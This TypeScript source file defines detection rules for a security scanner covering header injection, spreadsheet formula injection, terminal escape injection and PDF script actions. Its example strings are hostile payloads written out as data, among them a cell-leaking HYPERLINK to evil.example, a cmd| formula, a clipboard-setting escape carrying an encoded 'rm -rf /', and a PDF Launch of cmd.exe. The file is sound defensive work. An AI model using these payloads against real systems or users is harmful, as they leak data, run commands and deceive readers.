/** Text that a header, a spreadsheet, a terminal or a reader of documents obeys. */
import type { Rule } from '../types.ts';
import { IN_OUTPUT } from './in-output.ts';
import { OUTPUT } from './taxonomy.ts';

const base = {
  ...IN_OUTPUT,
  severity: 'MEDIUM',
} as const;

export const textPayloadRules: readonly Rule[] = [
  {
    ...base,
    id: 'header-injection',
    type: 'header_injection',
    confidence: 0.75,
    taxonomy: [OUTPUT, 'CWE-93', 'CWE-113'],
    description: 'A value with an encoded line break and a header of its own.',
    severity_reason: 'It sets cookies, redirects or adds receivers.',
    references: ['https://owasp.org/www-community/attacks/HTTP_Response_Splitting'],
    triggers: [
      '%0d',
      '%0a',
      '%250d',
      '%e5%98%8a',
      '%u000d',
      '\\r\\nset-cookie',
      '\\r\\nbcc',
      '\\nbcc',
      '\\r\\nlocation',
      '\\r\\nx-',
      '\\r\\ncontent-length: 0',
      '\\r\\n\\r\\nhttp',
      '%E5%98%8A',
    ],
    pattern: [
      '(?:%(?:25)?0d)?%(?:25)?0[da](?:%20|\\s)?(?:Set-Cookie|Location|X-[\\w-]{2,30}|Content-(?:Type|Length)|Transfer-Encoding|B?cc|To|From|Host|HTTP/1)(?::|%3a)[^\\s"]{0,120}',
      '%0d%0a(?:%0d%0a|%20)(?:<|%3c|HTTP/)[^\\s"]{0,120}',
      '(?:%e5%98%8a)?%e5%98%8[ad]\\S{2,120}',
      '%u000d%u000a\\S{2,120}',
      '(?<=(?:^|["=:\\s])[\\w@.-]{1,60})\\\\r?\\\\?n(?:Set-Cookie|Bcc|Location)\\s?:[^"\\n]{1,120}',
      '(?<=(?:^|["=:\\s])[\\w@.-]{1,60})\\\\r\\\\n(?:Content-Length: 0\\\\r\\\\n\\\\r\\\\n|X-[\\w-]{2,30}:)[^"\\n]{0,160}',
      '(?<=[\\w.]{1,40}@[\\w.-]{1,60})\\\\nBcc\\s?:[^"\\n]{1,120}',
    ].join('|'),
    examples: {
      match: [
        { text: '%0d%0aSet-Cookie:%20session=evil' },
        { text: 'victim@example.com%0ABcc:evil@example.com' },
      ],
      no_match: [
        { text: 'Set-Cookie: session=abc; HttpOnly' },
        { text: 'text=line%20one%0Aline%20two' },
        { text: '"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\n"' },
      ],
    },
  },
  {
    ...base,
    id: 'header-line',
    type: 'header_injection',
    confidence: 0.7,
    taxonomy: [OUTPUT, 'CWE-93', 'CWE-113'],
    description: 'A value whose second line is a header of mail or HTTP.',
    severity_reason: 'It sets cookies, redirects or adds receivers.',
    references: ['https://owasp.org/www-community/attacks/HTTP_Response_Splitting'],
    triggers: ['bcc:', 'set-cookie:'],
    pattern:
      '(?<=(?:^|["=])[\\w@.-]{1,60}\\r?\\n)(?:Bcc:\\s{0,2}[^\\s@]{1,60}@|Set-Cookie:\\s{0,2}\\w{1,40}=)[^\\n"]{1,120}',
    examples: {
      match: [
        { text: 'test@corp.example\nBcc: everyone@example.com' },
        { text: '"value\r\nSet-Cookie: role=admin"' },
      ],
      no_match: [{ text: 'HTTP/1.1 200 OK\nSet-Cookie: a=b' }, { text: 'To: a@b.example\nBcc: c@d.example' }],
    },
  },
  {
    ...base,
    id: 'csv-injection',
    type: 'formula_injection',
    confidence: 0.85,
    taxonomy: [OUTPUT, 'CWE-1236'],
    description: 'A spreadsheet cell that starts a program or sends other cells away.',
    severity_reason: 'Opened in a spreadsheet it runs a command or leaks the sheet.',
    references: ['https://owasp.org/www-community/attacks/CSV_Injection'],
    triggers: [
      'cmd|',
      '=hyperlink(',
      '=importxml(',
      '=importdata(',
      '=importhtml(',
      '=importfeed(',
      '=importrange(',
      '=image(',
      '=webservice(',
      '=dde(',
      '=msexcel|',
      '=rundll32|',
      '=exec(',
      'webservice(',
      '=filterxml(',
    ],
    pattern: [
      "cmd\\|\\s{0,2}'[^'\\n]{1,200}'!\\w",
      '=HYPERLINK\\([^\\n(]{0,200}?"\\s{0,2}&\\s{0,2}[A-Z]{1,2}\\d{1,4}[^\\n]{0,80}',
      '=IMPORT(?:XML|DATA|HTML|FEED|RANGE)\\(\\s{0,2}(?:CONCAT|"https?:)[^\\n]{2,240}',
      '=IMAGE\\([^\\n(]{1,200}?&\\s{0,2}[A-Z]{1,2}\\d',
      '(?<![\\w.])=?(?:FILTERXML\\()?WEBSERVICE\\(\\s{0,2}"https?:[^\\n]{2,200}',
      '=DDE\\(\\s{0,2}"[^\\n]{2,120}',
      "=(?:MSEXCEL|rundll32)\\|'[^\\n]{2,200}'!",
      '=EXEC\\(\\s{0,2}"[^\\n]{2,120}',
    ].join('|'),
    examples: {
      match: [
        { text: "=cmd|'/C calc'!A0" },
        { text: '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Click")' },
      ],
      no_match: [
        { text: '=SUM(A1:A10)' },
        { text: '=HYPERLINK("https://example.com","Example")' },
        { text: 'cmd | more' },
      ],
    },
  },
  {
    ...base,
    id: 'terminal-injection',
    type: 'terminal_injection',
    confidence: 0.8,
    taxonomy: [OUTPUT, 'CWE-150'],
    description:
      'Escape sequences that hide text, rewrite what was shown, set the clipboard or the title, or disguise a link.',
    severity_reason: 'A terminal obeys: what a reader sees, copies or clicks is not what is written.',
    references: [
      'https://cwe.mitre.org/data/definitions/150.html',
      'https://invisible-island.net/xterm/ctlseqs/ctlseqs.html',
    ],
    triggers: [']8;;http', ']52;', ']0;', ']2;', ']50;', '[8m', '[2j', '[30;40m', '[21t', '[2k', 'p$q'],
    pattern: [
      '(?<=(?:\\x1b|\\x9b|\\\\x1b|\\\\033|\\\\u001b|\\\\e|\\bESC))\\](?:8;;https?:[^\\s]{2,200}|52;\\w{0,2};[\\w+/=]{2,400}|[02];[^\\n]{0,80}?(?:\\x07|\\\\x07|\\\\u0007|\\\\a|BEL|\\x1b|\\\\x1b)|50;)',
      '(?<=(?:\\x1b|\\x9b|\\\\x1b|\\\\033|\\\\u001b|\\\\e))\\[(?:8m[^\\n]{1,120}|2J(?:\\x1b|\\\\x1b|\\\\033|\\\\u001b|\\\\e)?\\[\\d{0,2};?\\d{0,2}H[^\\n]{0,120}|30;40m[^\\n]{1,120}|21t|2K(?:\\x1b|\\\\x1b|\\\\033|\\\\u001b)?\\[1?G[^\\n]{1,80})',
      '(?<=(?:\\x1b|\\\\x1b|\\\\033|\\\\u001b|\\\\e))P\\$q[^\\n]{1,60}',
    ].join('|'),
    examples: {
      match: [{ text: '\u001b]52;c;cm0gLXJmIC8=\u0007' }, { text: '\\x1b[8mhidden instructions\\x1b[0m' }],
      no_match: [{ text: '\u001b[32mPASS\u001b[0m src/app.test.ts' }, { text: 'array[2j]' }],
    },
  },
  {
    ...base,
    id: 'pdf-action',
    type: 'active_document',
    severity: 'HIGH',
    confidence: 0.8,
    taxonomy: [OUTPUT, 'CWE-79', 'CWE-829'],
    description: 'A PDF action that runs a script or a program.',
    severity_reason: 'It runs when the document is opened.',
    references: ['https://www.iso.org/standard/75839.html'],
    triggers: [
      '/s/javascript',
      '/s /javascript',
      '/s/launch',
      '/s /launch',
      '/openaction',
      '/uri (javascript',
      '/uri(javascript',
      '/richmedia',
    ],
    pattern:
      '/S\\s{0,2}/(?:JavaScript|Launch)\\b[^\\n]{0,200}|/OpenAction\\s{0,2}<<[^\\n]{0,80}?/S\\s{0,2}/(?:GoToR|JavaScript|Launch|SubmitForm)[^\\n]{0,200}|/URI\\s{0,2}\\(javascript:[^\\n]{0,120}|/RichMedia[^\\n]{0,80}/JS\\s{0,2}\\([^\\n]{0,120}',
    examples: {
      match: [
        { text: '<</Type/Action/S/Launch/F(cmd.exe)>>' },
        { text: '<</S/JavaScript/JS(app.alert(1))>>' },
      ],
      no_match: [{ text: '<< /S /URI /URI (https://example.com) >>' }, { text: '/OpenAction [3 0 R /Fit]' }],
    },
  },
];
